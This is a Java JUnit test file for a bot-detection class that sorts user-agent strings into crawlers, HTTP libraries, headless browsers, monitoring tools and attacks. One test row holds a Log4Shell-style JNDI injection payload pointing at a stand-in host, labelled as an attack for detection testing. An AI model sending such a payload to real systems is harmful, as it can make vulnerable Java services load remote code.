package io.millrace.domain.bot;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.millrace.domain.device.UserAgentRules;
import io.millrace.domain.enrich.SharedData;
import java.io.IOException;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class BotRulesTest {
  private static final Pattern CALLS_ITSELF_A_CRAWLER =
      Pattern.compile("crawl|spider|bot\\b|thumbnail", Pattern.CASE_INSENSITIVE);

  private final BotRules bots = new BotRules();

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|crawler_pattern
          Mozilla/5.0 (compatible; Baiduspider/2.0)|crawler_pattern
          Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2)|crawler_pattern
          curl/8.5.0|http_library
          python-requests/2.31.0|http_library
          Go-http-client/1.1|http_library
          Apache-HttpClient/4.5.2 (Java/1.8.0_65)|http_library
          Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0|headless_browser
          Mozilla/5.0 (Windows NT 6.1) PingdomPageSpeed/1.0|headless_browser
          Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)|monitoring
          UptimeRobot/2.0|monitoring
          Mozilla/5.0 (compatible; Foo/1.0)|crawler_pattern
          Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Foo/1.0)|crawler_pattern
          Adventurer|crawler_pattern
          crusty/0.12.0|crawler_pattern
          Mozilla/5.0 ${jndi:ldap://evil.example/a}|attack
          """)
  void flagsAMachineWithItsReason(String userAgent, String reason) {
    assertThat(bots.reason(userAgent, "Unknown")).isEqualTo("user_agent:" + reason);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
            + " Chrome/130.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 9; CUBOT_X19 Build/PPR1) AppleWebKit/537.36 (KHTML, like"
            + " Gecko) Chrome/75.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 8.1.0; CUBOT POWER) AppleWebKit/537.36 Chrome/70.0 Mobile"
            + " Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.1; rv:1.9.2.17) Gecko/20110414 Lightning/1.0b3 Thunderbird/3.1",
        "SonyEricssonW666i/R2BA Java/SEMC-Java/2.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)",
        "Mozilla/5.0 (compatible; Konqueror/4.5; FreeBSD) KHTML/4.5.4 (like Gecko)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; OptimizedIE8;ENUS)",
        "Mozilla/5.0 (Windows NT 6.1; rv:35.0) Gecko/20100101 Firefox/35.0 AlexaToolbar/alxf-2.21",
        "Mozilla/5.0 (compatible; Teleca Q7; Brew 3.1.5; U; en) 240X400 LGE UX700",
        "Lynx/2.8.8dev.3 libwww-FM/2.14 SSL-MM/1.4.1",
        "w3m/0.5.3",
        "HTC_Desire_C/1.46.111.4",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0; EmbeddedWB 14.52 from:"
            + " http://www.bsalsa.com/; .NET CLR 2.0.50727)"
      })
  void takesAPersonForAPerson(String userAgent) {
    assertThat(bots.reason(userAgent, "Desktop")).isNull();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " ", "-"})
  void takesNoUserAgentForAMachine(String userAgent) {
    assertThat(bots.reason(userAgent, "Unknown")).isEqualTo("user_agent:empty");
    assertThat(bots.reason(null, "Unknown")).isEqualTo("user_agent:empty");
  }

  @Test
  void believesTheParserWhereNoPatternMatches() {
    assertThat(bots.reason("Something/1.0 (Linux)", "Robot")).isEqualTo("yauaa:Robot");
    assertThat(bots.reason("Something/1.0 (Linux)", "Phone")).isNull();
  }

  @Test
  void findsAtLeast98PercentOfRealCrawlers() throws IOException {
    List<JsonNode> crawlers = SharedData.rows("bots/crawler-instances.ndjson.gz");

    List<String> missed =
        crawlers.stream()
            .map(row -> row.get("ua").asText())
            .filter(userAgent -> !UserAgentRules.shared().describe(userAgent).bot())
            .toList();

    System.out.printf("Crawlers not found: %d of %d%n", missed.size(), crawlers.size());
    missed.forEach(userAgent -> System.out.println("  " + userAgent));
    assertThat(missed).hasSizeLessThanOrEqualTo(crawlers.size() * 2 / 100);
  }

  @Test
  void takesAlmostNoRealBrowserForABot() throws IOException {
    Set<String> people = new LinkedHashSet<>();
    Pattern crawler = knownCrawlers();
    for (String file : List.of("test_ua", "test_os", "test_device")) {
      for (JsonNode row : SharedData.rows("ua-cases/" + file + ".ndjson.gz")) {
        String userAgent = row.get("ua").asText();
        if (isBrowser(file, row, userAgent) && !crawler.matcher(userAgent).find()) {
          people.add(userAgent);
        }
      }
    }

    List<String> flagged = new ArrayList<>();
    for (String userAgent : people) {
      String reason = UserAgentRules.shared().describe(userAgent).botReason();
      if (reason != null) {
        flagged.add(reason + " " + userAgent);
      }
    }

    System.out.printf("People taken for bots: %d of %d%n", flagged.size(), people.size());
    flagged.forEach(userAgent -> System.out.println("  " + userAgent));
    assertThat(flagged).hasSizeLessThanOrEqualTo(people.size() / 500);
  }

  /**
   * The case files hold crawlers, libraries and apps too. What is a device's is a person's; of the
   * others, what starts as a browser does and does not call itself a crawler.
   */
  private static boolean isBrowser(String file, JsonNode row, String userAgent) {
    boolean device = file.equals("test_device") && !row.get("family").asText().equals("Other");
    boolean browser = userAgent.startsWith("Mozilla/") || userAgent.startsWith("Opera/");
    return !row.get("family").asText().equals("Spider")
        && (device || (browser && !CALLS_ITSELF_A_CRAWLER.matcher(userAgent).find()));
  }

  private static Pattern knownCrawlers() throws IOException {
    List<String> patterns = new ArrayList<>();
    new ObjectMapper()
        .readTree(SharedData.file("bots/crawler-patterns.json").toFile())
        .forEach(row -> patterns.add(row.get("pattern").asText()));
    return Pattern.compile(String.join("|", patterns));
  }
}
